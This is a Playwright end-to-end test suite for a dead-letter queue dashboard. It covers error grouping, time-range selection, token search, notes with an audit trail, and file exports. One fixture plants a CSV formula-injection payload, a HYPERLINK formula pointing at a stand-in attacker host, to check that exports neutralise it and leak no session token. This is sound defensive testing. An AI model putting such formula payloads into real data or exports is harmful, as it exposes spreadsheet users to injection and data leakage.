import { type BrowserContext, expect, type Page } from "playwright/test";
import { makeLetter } from "@/scripts/testing/game";
import { type Product, QUIET_ENGINE, startProduct } from "@/scripts/testing/product";
import { until } from "@/scripts/testing/until";
import { untilArchived } from "./pages/archive";
import { setUp } from "./pages/desk";
import { fileOf } from "./pages/file-of";
import { test } from "./pages/test";

const TOKEN = "tok-planted-0123456789";
const FORMULA = '=HYPERLINK("http://evil.example/?x";"Click")';

let product: Product;
let session: Awaited<ReturnType<BrowserContext["cookies"]>>;
/** A letter whose error is a formula, of a known session. */
let planted: { id: string; groupId: string };

test.beforeAll(async ({ browser }) => {
  test.setTimeout(300_000);
  product = await startProduct({ env: QUIET_ENGINE });
  const engine = product.pool("engine");
  await until(
    async () => (await engine.query("select to_regclass('reward_ledger') is not null as made")).rows[0]?.made,
  );
  for (const [error, count] of [
    ["canceling statement due to statement timeout (%s ms)", 6],
    ["ERROR 40P01: deadlock detected in the vault, process %s waits", 3],
  ] as const) {
    for (let n = 0; n < count; n += 1) {
      const diedAgo = `${10 + n * 7} minutes`;
      await makeLetter(engine, { error: error.replace("%s", String(n * 91)), diedAgo, sessionToken: TOKEN });
    }
  }
  await makeLetter(engine, { error: `${FORMULA} session_token=${TOKEN}`, diedAgo: "5 minutes", sessionToken: TOKEN });
  await untilArchived(product);
  const { rows } = await product
    .pool("backstop_own")
    .query("select letter_id as id, group_id::text as \"groupId\" from backstop.dead_letters where error like '=%'");
  planted = rows[0];
  const page = await browser.newPage();
  await setUp(page, product);
  session = await page.context().cookies();
  await page.close();
});
test.afterAll(() => product.end({ forget: true }));
test.beforeEach(async ({ page }) => {
  await page.context().addCookies(session);
});

const rows = (page: Page, table: string) => page.getByRole("table", { name: table }).locator("tr[data-row]");
const open = (page: Page, path: string) => page.goto(`${product.url}${path}`);
const died = (page: Page) => new URL(page.url()).searchParams.get("died");

test("from an error to its group to a letter of it, each with the same count", async ({ page }) => {
  await open(page, "/dead-letters");
  const error = rows(page, "Errors").filter({ hasText: "canceling statement" });
  await expect(error.locator("var")).toHaveText("n");
  await expect(error.locator('td[data-l="Letters"]')).toHaveText("6");
  await error.locator("a[data-primary]").click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(
    "canceling statement due to statement timeout (n ms)",
  );
  await page.getByRole("link", { name: "All letters" }).click();
  await expect(rows(page, "Dead letters")).toHaveCount(6);
  await expect(page.getByText("6 match")).toBeVisible();
  await rows(page, "Dead letters").first().locator("a[data-primary]").click();
  await expect(page.getByText("canceling statement due to statement timeout (0 ms)").first()).toBeVisible();
});

test("the brush is moved by keyboard, by one bin and by five, and Esc takes it away; each is an address", async ({
  page,
}) => {
  await open(page, "/dead-letters?died=3h");
  const start = page.getByRole("button", { name: /^Start of range/ });
  await expect(start).toBeVisible();
  const said = async () => (await start.getAttribute("aria-label"))?.match(/\d\d:\d\d/)?.[0] ?? "";
  const minutes = (text: string) => Number(text.slice(0, 2)) * 60 + Number(text.slice(3));
  const first = minutes(await said());
  const step = Number((await start.getAttribute("aria-label"))?.match(/Arrow keys move by (\d+) min/)?.[1]);
  await start.focus();
  await page.keyboard.press("ArrowRight");
  await expect.poll(async () => (minutes(await said()) - first + 1440) % 1440).toBe(step);
  await page.keyboard.press("Shift+ArrowRight");
  await expect.poll(async () => (minutes(await said()) - first + 1440) % 1440).toBe(6 * step);
  await expect.poll(() => died(page)).toMatch(/^\d{4}-\d\d-\d\dT.*Z\.\.\d{4}-/);
  const before = await rows(page, "Errors").count();
  const address = page.url();
  await page.reload();
  expect(page.url()).toBe(address);
  await expect(rows(page, "Errors")).toHaveCount(before);
  await page.getByRole("button", { name: /^Start of range/ }).focus();
  await page.keyboard.press("Escape");
  await expect.poll(() => died(page)).toBeNull();
});

test("a stretch drawn with the mouse is the filter: the page counts what died in it, as the database does", async ({
  page,
}) => {
  await open(page, "/dead-letters?died=3h&view=list");
  const plot = page.getByRole("group", { name: "Chosen stretch of time" });
  await expect(plot).toBeVisible();
  const box = await plot.boundingBox();
  if (!box) throw new Error("the plot has no box");
  const at = (share: number) => [box.x + box.width * share, box.y + box.height / 3] as const;
  await page.mouse.move(...at(0.75));
  await page.mouse.down();
  await page.mouse.move(...at(0.9), { steps: 4 });
  await page.mouse.up();
  await expect.poll(() => died(page)).toMatch(/Z\.\./);
  const [from, to] = (died(page) ?? "").split("..");
  const { rows: found } = await product
    .pool("backstop_own")
    .query(
      "select count(*)::int as letters from backstop.dead_letters where state = 'open' and died_at >= $1 and died_at < $2",
      [from, to],
    );
  const { letters } = found[0];
  expect(letters).toBeGreaterThan(0);
  expect(letters).toBeLessThan(10);
  await expect(rows(page, "Dead letters")).toHaveCount(letters);
  await expect(page.getByText(new RegExp(`, ${letters} letters?Show all`))).toBeVisible();
  await page.getByRole("button", { name: "Show all" }).click();
  await expect.poll(() => died(page)).toBeNull();
});

test("letters are found by words, by ids, and by a session token that no address ever holds", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await open(page, "/dead-letters?q=deadlock%20vault");
  await expect(rows(page, "Dead letters")).toHaveCount(3);
  await open(page, `/dead-letters?q=${planted.id}`);
  await expect(rows(page, "Dead letters")).toHaveCount(1);

  await page.getByRole("button", { name: "Session token" }).click();
  await page.getByRole("textbox", { name: "Session token" }).fill(TOKEN);
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/token=[0-9a-f]{64}/);
  await open(page, new URL(page.url()).search.replace(/[?&]q=[^&]*/, "?").replace(/^/, "/dead-letters"));
  await expect(rows(page, "Dead letters")).toHaveCount(10);
  expect(asked.join("\n")).not.toContain(TOKEN);
});

test("letters that die while one looks wait behind a pill, and no row moves until it is pressed", async ({ page }) => {
  await open(page, "/dead-letters?view=list");
  const before = await rows(page, "Dead letters").count();
  await makeLetter(product.pool("engine"), { error: "a new cause", diedAgo: "1 second" });
  const pill = page.getByRole("button", { name: /^1 new/ });
  await expect(pill).toBeVisible({ timeout: 30_000 });
  await expect(rows(page, "Dead letters")).toHaveCount(before);
  await pill.click();
  await expect(rows(page, "Dead letters")).toHaveCount(before + 1);
  await expect(pill).toHaveCount(0);
});

test("a note is written on a group, is there for the next one who looks, and is in the audit", async ({ page }) => {
  await open(page, `/dead-letters/groups/${planted.groupId}`);
  await page.getByLabel("New note").fill("Somebody plays with formulas.");
  await page.getByRole("button", { name: "Add note" }).click();
  await expect(page.getByRole("listitem").filter({ hasText: "Somebody plays with formulas." })).toBeVisible();
  const { rows: audit } = await product
    .pool("backstop_own")
    .query("select actor_name, target ->> 'group' as group from backstop.audit where action = 'note'");
  expect(audit).toEqual([{ actor_name: "Maya Okafor", group: planted.groupId }]);
});

test("a view is kept as a file: what it says is the database's, a formula in it is text, and no token is in it", async ({
  page,
}) => {
  await open(page, "/dead-letters?state=all&view=list");
  const { rows: kept } = await product
    .pool("backstop_own")
    .query("select letter_id as id from backstop.dead_letters order by died_at desc, letter_id desc");
  const csv = await fileOf(page, "CSV");
  expect(csv.name).toMatch(/^dead-letters-\d{8}-\d{6}\.csv$/);
  expect(csv.text.trimEnd().split("\r\n")).toHaveLength(kept.length + 1);
  expect(csv.text).toContain(`"'=HYPERLINK(`);
  const json = await fileOf(page, "JSON");
  expect(JSON.parse(json.text).map((each: { letter_id: string }) => each.letter_id)).toEqual(kept.map(({ id }) => id));
  const timeline = await fileOf(page, "Timeline");
  expect(timeline.text).toContain(`${kept.length} letters died of`);
  expect(timeline.text).toMatch(/^- \*\*\d\d:\d\d:\d\d\*\* \*\*Maya Okafor\*\* noted: Somebody plays with formulas/m);
  expect(csv.text + json.text + timeline.text).not.toContain(TOKEN);
});
